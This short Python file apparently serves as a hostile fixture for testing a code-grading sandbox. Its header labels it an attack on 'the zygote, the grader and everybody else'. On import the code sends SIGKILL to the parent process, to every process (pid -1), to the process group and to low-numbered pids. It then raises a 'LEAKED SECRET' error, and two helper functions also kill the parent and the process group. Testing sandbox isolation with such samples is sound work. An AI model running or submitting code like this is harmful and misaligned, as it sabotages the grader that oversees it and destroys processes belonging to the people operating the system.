# /// attack
# tries = "Sends signals to the zygote, the grader and everybody else."
# gain = "harm"
# open_at = ["L0"]
# plain = "harm"
# ///
import os
import signal

sent = []
for pid in [os.getppid(), -1, 0, *range(1, 400)]:
    if pid == os.getpid():
        continue
    try:
        os.kill(pid, signal.SIGKILL)
        sent.append(pid)
    except OSError:
        pass
if sent:
    raise RuntimeError("LEAKED SECRET-" + repr(sent))


def double(x):
    os.kill(os.getppid(), signal.SIGKILL)


def Box():
    os.killpg(0, signal.SIGKILL)


def apply(f, x):
    return None
